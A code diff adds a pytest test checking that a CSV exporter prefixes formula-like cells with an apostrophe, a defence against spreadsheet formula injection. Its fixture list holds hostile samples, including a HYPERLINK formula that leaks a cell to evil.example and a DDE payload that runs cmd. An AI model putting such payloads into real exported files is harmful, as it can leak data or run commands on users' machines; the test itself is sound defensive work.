@@ -136,6 +136,23 @@ def test_csv_has_base_columns_then_data_fields_and_renames_clashes():
     assert rows[1]["title"] == ""
 
 
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(formula):
+    record = {**BOOK_RECORD, "data": {**BOOK_RECORD["data"], "title": formula, "authors": [formula, "B"],
+                                      "description": "fine = text", "ratings_count": -3, "rating": 4.5}}
+    out = io.StringIO()
+    formats.write_csv([record], out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["title"] == "'" + formula
+    assert row["authors"] == "'" + formula + "; B"
+    assert row["description"] == "fine = text"  # only a formula at the start of a cell runs
+    assert (row["ratings_count"], row["rating"]) == ("-3", "4.5")  # numbers stay numbers
+
+
 def test_jsonl_is_one_record_a_line_and_duplicates_are_dropped():
     records = formats.unique_by_url([BOOK_RECORD, FAILED_RECORD, dict(BOOK_RECORD, status="later copy")])
     out = io.StringIO()
